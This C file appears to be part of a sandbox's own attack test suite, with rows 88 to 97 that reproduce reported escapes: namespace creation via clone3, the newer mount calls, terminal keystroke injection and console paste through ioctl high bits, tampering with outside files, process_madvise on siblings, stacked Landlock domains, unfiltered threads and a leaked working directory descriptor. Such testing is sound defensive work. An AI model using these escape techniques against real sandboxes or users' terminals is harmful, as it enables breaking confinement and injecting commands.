/* SPDX-License-Identifier: MIT
 *
 * Attacks that others have reported of sandboxes, as far as they need rows of their own:
 * docs/sandbox.md says which row tries which report.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/landlock.h>
#include <linux/mount.h>
#include <linux/sched.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <unistd.h>

#include "cli/attack/bout.h"
#include "cli/attack/host.h"
#include "cli/attack/policy.h"

#define LONG_AGO      1000000000 /* a time that no file has by accident */
#define DOMAINS       16         /* that one process can have */
#define ADVISE_COLD   20
#define GENERATIONS   100
#define PROCESSES     "128"
#define LEAKED_FIRST  3
#define LEAKED_LAST   40
#define ORPHANED_MS   5000
#define IGNORED_BITS  (1UL << 32)
#define PASTE         3 /* TIOCL_PASTESEL */
#define NO_NAMESPACES "user namespaces are forbidden to us, or clone3(2) is"

/* --- 88: a namespace by clone3 --------------------------------------------------------------- */

static pid_t clone_namespaces(uint64_t flags) {
	struct clone_args arguments = { .flags = flags, .exit_signal = SIGCHLD };

	return (pid_t)syscall(SYS_clone3, &arguments, sizeof arguments);
}

/* The flags are in memory, where a filter cannot see them. The child lives until the host has
 * looked at it. */
static int clone_user(struct wf_call *call) {
	pid_t pid = clone_namespaces(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWPID);

	if (pid == 0) {
		attack_wait(call);
		_exit(0);
	}
	attack_say(call, 't', &(uint64_t){ pid > 0 ? (uint64_t)pid : 0 }, sizeof(uint64_t));
	attack_hold(call);
	if (pid > 0)
		(void)waitpid(pid, NULL, 0);
	return attack_answer(call, pid > 0, NULL, 0);
}

/* A new user namespace has no users yet. */
static void look_at_child(struct attack_ground *ground, struct attack_bout *bout) {
	char map[256];

	if (!ground->controls || bout->told == 0)
		return;
	attack_proc((pid_t)bout->told, "uid_map", map, sizeof map);
	bout->seen = map[0] == '\0';
}

static const char *no_clone(void) {
	pid_t pid = clone_namespaces(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWPID);

	if (pid == 0)
		_exit(0);
	if (pid > 0)
		(void)waitpid(pid, NULL, 0);
	return pid > 0 ? NULL : NO_NAMESPACES;
}

/* --- 89: the newer calls for mounts ---------------------------------------------------------- */

/* Makes a file system, changes its mount, and puts it over `path`. */
static bool mount_newly(const char *path) {
	struct mount_attr attributes = { .attr_set = MOUNT_ATTR_NOEXEC };
	int context = (int)syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC), mount;

	(void)syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0);
	mount = (int)syscall(SYS_fsmount, context, FSMOUNT_CLOEXEC, 0);
	(void)syscall(SYS_mount_setattr, mount, "", AT_EMPTY_PATH, &attributes, sizeof attributes);
	return syscall(SYS_move_mount, mount, "", AT_FDCWD, path, MOVE_MOUNT_F_EMPTY_PATH) == 0;
}

/* Tells whether any of the calls does something, also where the whole cannot work. */
static bool has_mount_calls(const char *path) {
	int context = (int)syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC);

	return context >= 0 || syscall(SYS_fspick, AT_FDCWD, path, FSPICK_CLOEXEC) >= 0 ||
	       syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC) >= 0;
}

/* Gets a mount namespace by whatever call gives one. Returns true in the process that has it. */
static bool enter_mounts(pid_t *ret_child) {
	*ret_child = clone_namespaces(CLONE_NEWUSER | CLONE_NEWNS);
	if (*ret_child < 0)
		*ret_child = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, NULL,
					    NULL, NULL, NULL);
	return *ret_child == 0;
}

static int mount_without_mount(struct wf_call *call) {
	const char *out = attack_brief(call)->out;
	bool done = false;
	int status = -1;
	pid_t pid;

	if (enter_mounts(&pid)) {
		done = mount_newly(out);
		attack_say(call, 't', &(uint64_t){ (uint64_t)getpid() }, sizeof(uint64_t));
		attack_hold(call);
		_exit(!done);
	}
	if (pid < 0) {
		done = has_mount_calls(out);
		attack_hold(call);
	}
	if (pid > 0)
		done = waitpid(pid, &status, 0) == pid && status == 0;
	return attack_answer(call, done, NULL, 0);
}

static void look_at_mounts(struct attack_ground *ground, struct attack_bout *bout) {
	static char mounts[1 << 16];
	char line[ATTACK_PATH + 16];

	if (bout->told == 0)
		return;
	attack_proc((pid_t)bout->told, "mounts", mounts, sizeof mounts);
	(void)snprintf(line, sizeof line, "%s tmpfs", ground->brief.out);
	bout->seen = ground->controls && strstr(mounts, line) != NULL;
}

/* --- 90, 91: the user's terminal, again ------------------------------------------------------ */

/* CVE-2019-10063: the kernel uses 32 bits of the request, and a filter may compare 64. */
static void type_with_bits(struct wf_call *call) {
	const char *nonce = attack_brief(call)->nonce;
	int terminal = wf_call_descriptor(call, 1);

	(void)ioctl(terminal, TIOCSCTTY, 0);
	for (size_t i = 0; i < ATTACK_TOKEN - 1; i++)
		(void)syscall(SYS_ioctl, terminal, TIOCSTI | IGNORED_BITS, nonce + i);
}

/* As in row 56, a child does it, because it can become leader of a session. */
static int type_wide(struct wf_call *call) {
	pid_t pid = fork();

	if (pid == 0) {
		(void)setsid();
		type_with_bits(call);
		attack_hold(call);
		_exit(0);
	}
	if (pid < 0) {
		type_with_bits(call);
		attack_say(call, 'h', NULL, 0);
	}
	attack_wait(call);
	return attack_answer(call, false, NULL, 0);
}

/* CVE-2023-28100: only a virtual console pastes, and machines may have none. Any other terminal
 * says that it is not one, which shows that the request got there. */
static int paste(struct wf_call *call) {
	const unsigned long requests[] = { TIOCLINUX, TIOCLINUX | IGNORED_BITS };
	char argument[16] = { PASTE };
	bool done = false;

	for (size_t i = 0; i < sizeof requests / sizeof requests[0]; i++)
		done |=
		    syscall(SYS_ioctl, wf_call_descriptor(call, 1), requests[i], argument) >= 0 ||
		    errno == ENOTTY;
	return attack_answer(call, done, NULL, 0);
}

/* --- 92: what is not content, outside -------------------------------------------------------- */

/* Row 8 tries inputs; no layer has heard of these files. */
static int change_outside(struct wf_call *call) {
	const char *secret = attack_brief(call)->secret;
	const struct timespec times[2] = { { LONG_AGO, 0 }, { LONG_AGO, 0 } };
	int fd = open(secret, O_PATH | O_CLOEXEC);
	char path[64];
	bool done;

	(void)snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	done = chmod(secret, 0666) == 0;
	done |= chmod(path, 0666) == 0;
	done |= utimensat(AT_FDCWD, secret, times, 0) == 0;
	done |= utimensat(AT_FDCWD, path, times, 0) == 0;
	done |= setxattr(secret, "user.attack", "1", 1, 0) == 0;
	return attack_answer(call, done, NULL, 0);
}

static enum attack_verdict judge_outside(struct attack_ground *ground,
					 const struct attack_bout *bout) {
	struct stat secret = { 0 };

	(void)bout;
	(void)fstatat(ground->root_fd, "outside/secret", &secret, 0);
	return attack_verdict((secret.st_mode & 07777) != 0644 || secret.st_mtime == LONG_AGO ||
			      getxattr(ground->brief.secret, "user.attack", NULL, 0) > 0);
}

static void clean_outside(struct attack_ground *ground) {
	(void)removexattr(ground->brief.secret, "user.attack");
}

/* --- 93: advice about the memory of others --------------------------------------------------- */

static bool advise(pid_t pid, void *page, size_t size) {
	struct iovec range = { page, size };
	int fd = (int)syscall(SYS_pidfd_open, pid, 0);
	bool done = fd >= 0 && syscall(SYS_process_madvise, fd, &range, 1UL, ADVISE_COLD, 0) > 0;

	if (fd >= 0)
		(void)close(fd);
	return done;
}

static int advise_sibling(struct wf_call *call) {
	const pid_t targets[] = { attack_brief(call)->sibling, attack_brief(call)->sibling_inside };
	bool done = false;

	for (size_t i = 0; i < sizeof targets / sizeof targets[0]; i++)
		done |= targets[i] != getpid() &&
			advise(targets[i], ATTACK_PAGES, (size_t)sysconf(_SC_PAGESIZE));
	return attack_answer(call, done, NULL, 0);
}

/* Tried on a child of ours. */
static const char *no_advice(void) {
	size_t size = (size_t)sysconf(_SC_PAGESIZE);
	void *page = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	pid_t pid = page == MAP_FAILED ? -1 : fork();
	bool done;

	if (pid == 0) {
		(void)pause();
		_exit(0);
	}
	done = pid > 0 && advise(pid, page, size);
	if (pid > 0) {
		(void)syscall(SYS_kill, pid, SIGKILL); /* our child, which no other process reaps */
		(void)waitpid(pid, NULL, 0);
	}
	if (page != MAP_FAILED)
		(void)munmap(page, size);
	return done ? NULL
		    : "process_madvise(2) is not in this kernel, or takes CAP_SYS_NICE, which we "
		      "do not have";
}

/* --- 94: a domain that allows everything ----------------------------------------------------- */

/* Each domain has to add to those that are there. */
static bool allow_everything(void) {
	const uint64_t all = LANDLOCK_ACCESS_FS_READ_FILE | LANDLOCK_ACCESS_FS_READ_DIR |
			     LANDLOCK_ACCESS_FS_WRITE_FILE;
	struct landlock_ruleset_attr ruleset = { .handled_access_fs = all };
	struct landlock_path_beneath_attr root = {
		.allowed_access = all, .parent_fd = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC)
	};
	int fd = (int)syscall(SYS_landlock_create_ruleset, &ruleset, sizeof ruleset, 0);
	bool done;

	(void)syscall(SYS_landlock_add_rule, fd, LANDLOCK_RULE_PATH_BENEATH, &root, 0);
	(void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	done = syscall(SYS_landlock_restrict_self, fd, 0) == 0;
	if (root.parent_fd >= 0)
		(void)close(root.parent_fd);
	if (fd >= 0)
		(void)close(fd);
	return done;
}

static int stack_domains(struct wf_call *call) {
	const char *secret = attack_brief(call)->secret;
	char loot[64];
	ssize_t n = attack_read(secret, loot, sizeof loot);

	for (unsigned i = 0; i < DOMAINS && n <= 0; i++) {
		(void)allow_everything();
		n = attack_read(secret, loot, sizeof loot);
	}
	return attack_answer(call, n > 0, loot, n > 0 ? (size_t)n : 0);
}

/* --- 95: a thread that is not restricted ------------------------------------------------------ */

static void *wait_in_thread(void *call) {
	attack_wait(call);
	return NULL;
}

/* Landlock and seccomp restrict a thread, and what comes from it. One that was there before, or
 * that is made in another way, would be free and share all memory. */
static int hide_thread(struct wf_call *call) {
	pthread_t thread;
	bool made = pthread_create(&thread, NULL, wait_in_thread, call) == 0;

	attack_hold(call);
	if (made)
		(void)pthread_join(thread, NULL);
	return attack_answer(call, false, NULL, 0);
}

static void look_at_threads(struct attack_ground *ground, struct attack_bout *bout) {
	char path[64], filter[16];
	struct dirent *entry;
	DIR *threads;

	(void)ground;
	(void)snprintf(path, sizeof path, "/proc/%d/task", (int)bout->pid);
	threads = opendir(path);
	while (threads && (entry = readdir(threads))) {
		if (entry->d_name[0] == '.')
			continue;
		attack_thread_status(bout->pid, entry->d_name, "Seccomp:", filter, sizeof filter);
		bout->seen |= filter[strspn(filter, "\t ")] != '2';
	}
	if (threads)
		(void)closedir(threads);
	else
		bout->seen = true;
}

/* --- 96: a refused call, far from the worker -------------------------------------------------- */

enum distance { DISTANCE_DEEP, DISTANCE_ORPHAN, N_DISTANCES };

/* Under on_refusal: end, nobody lives to tell that the call has returned. */
__attribute__((noreturn)) static void be_refused(const struct wf_call *call) {
	attack_say(call, 't', &(uint64_t){ 1 }, sizeof(uint64_t));
	(void)chroot("/");
	attack_say(call, 'c', NULL, 0);
	_exit(0);
}

static void descend(const struct wf_call *call) {
	pid_t pid = 0;

	for (unsigned i = 0; i < GENERATIONS; i++) {
		pid = fork();
		if (pid == 0)
			continue;
		if (pid > 0)
			(void)waitpid(pid, NULL, 0);
		if (i > 0)
			_exit(0);
		return;
	}
	be_refused(call);
}

/* Its parent has ended when it makes the call. */
static void orphan(const struct wf_call *call) {
	pid_t pid = fork(), parent;

	if (pid == 0) {
		(void)setsid();
		parent = getpid();
		if (fork() != 0)
			_exit(0);
		for (unsigned i = 0; i < ORPHANED_MS && getppid() == parent; i++)
			(void)poll(NULL, 0, 1);
		be_refused(call);
	}
	if (pid > 0)
		(void)waitpid(pid, NULL, 0);
	(void)poll(NULL, 0, ORPHANED_MS);
}

static int call_from_afar(struct wf_call *call) {
	if (attack_brief(call)->detail == DISTANCE_DEEP)
		descend(call);
	else
		orphan(call);
	return attack_answer(call, true, NULL, 0);
}

static int open_ending(struct attack_ground *ground) {
	struct wf_policy *policy = NULL;
	int r;

	ground->executor = NULL;
	r = attack_policy(ground, ground->column, &policy);
	if (r >= 0)
		r = wf_policy_add(policy, "limits.processes", PROCESSES);
	if (r >= 0 && !ground->controls)
		r = wf_policy_add(policy, "on_refusal", "end");
	if (r >= 0)
		r = attack_open(ground, policy);
	wf_policy_free(policy);
	return r;
}

/* Ended for the refusal, and with everything that it has started; a task that has lost its way is
 * no answer. */
static enum attack_verdict judge_distance(const struct attack_bout *bout) {
	if (bout->n_alive > 0 || !bout->gone)
		return ATTACK_THROUGH;
	return bout->outcome.kind == WF_VIOLATION ? ATTACK_STOPPED : ATTACK_ERROR;
}

static enum attack_verdict run_distances(struct attack_ground *ground,
					 const struct attack *attack) {
	struct wf_executor *first = ground->executor;
	enum attack_verdict verdict = ATTACK_STOPPED;
	struct attack_bout bout;
	bool open = open_ending(ground) == 0;

	for (uint64_t i = 0; i < N_DISTANCES && open && verdict == ATTACK_STOPPED; i++) {
		ground->brief.detail = i;
		verdict = attack_run(ground, attack, &bout) ? judge_distance(&bout) : ATTACK_ERROR;
	}
	attack_close(ground);
	ground->executor = first;
	return open ? verdict : ATTACK_ERROR;
}

/* --- 97: a working directory that was left open ----------------------------------------------- */

/* CVE-2024-21626: the working directory is named by the number of a descriptor that is open while
 * the process is made. */
static int use_directory(struct wf_call *call) {
	char loot[64];
	ssize_t n = attack_read("secret", loot, sizeof loot);

	if (n <= 0)
		n = attack_read("../outside/secret", loot, sizeof loot);
	return attack_answer(call, n > 0, loot, n > 0 ? (size_t)n : 0);
}

static enum attack_verdict run_directories(struct attack_ground *ground,
					   const struct attack *attack) {
	bool through = false;
	struct attack_bout bout;
	char path[64];

	for (unsigned i = LEAKED_FIRST; i <= LEAKED_LAST && !through; i++) {
		(void)snprintf(path, sizeof path, "/proc/self/fd/%u", i);
		ground->directory = path;
		if (attack_run(ground, attack, &bout))
			through = attack_has(&bout, ground->secret);
	}
	ground->directory = NULL;
	return attack_verdict(through);
}

/* ------------------------------------------------------------------------------------------- */

#define LANDLOCK    (1U << ATTACK_LANDLOCK)
#define SECCOMP     (1U << ATTACK_SECCOMP)
#define NAMESPACES  (1U << ATTACK_NAMESPACES)
#define DESCRIPTORS (1U << ATTACK_DESCRIPTOR_LAYER)

static const struct attack rows[] = {
	{ 88, "namespaces by clone3", "clone_user", clone_user, .stops = SECCOMP,
	  .look = look_at_child, .judge = attack_judge_seen, .inapplicable = no_clone },
	{ 89, "mount by the newer calls", "mount_without_mount", mount_without_mount,
	  .stops = LANDLOCK | SECCOMP, .look = look_at_mounts, .judge = attack_judge_seen,
	  .inapplicable = no_clone },
	{ 90, "type for the user, with bits nobody reads", "type_wide", type_wide, .stops = SECCOMP,
	  .prepare = attack_terminal_open, .look = attack_terminal_read, .judge = attack_judge_seen,
	  .inapplicable = attack_no_terminal },
	{ 91, "paste into the user's console", "paste", paste, .stops = SECCOMP,
	  .prepare = attack_terminal_open, .judge = attack_judge_belief },
	{ 92, "mode, times, attributes of what is outside", "change_outside", change_outside,
	  .stops = SECCOMP | NAMESPACES, .judge = judge_outside, .clean = clean_outside },
	{ 93, "advise the memory of a sibling", "advise_sibling", advise_sibling, ATTACK_SIBLING,
	  .stops = SECCOMP | NAMESPACES, .judge = attack_judge_belief, .inapplicable = no_advice },
	{ 94, "Landlock domains that allow everything", "stack_domains", stack_domains,
	  .stops = LANDLOCK | NAMESPACES, .judge = attack_judge_secret },
	{ 95, "a thread without the filter", "hide_thread", hide_thread, .stops = SECCOMP,
	  .look = look_at_threads, .judge = attack_judge_seen },
	{ 96, "live on after a refusal, far from the worker", "call_from_afar", call_from_afar,
	  .stops = SECCOMP, .run = run_distances },
	{ 97, "a working directory that was left open", "use_directory", use_directory,
	  .stops = LANDLOCK | DESCRIPTORS, .run = run_directories },
};

const struct attack_rows attack_reports = { rows, sizeof rows / sizeof rows[0] };
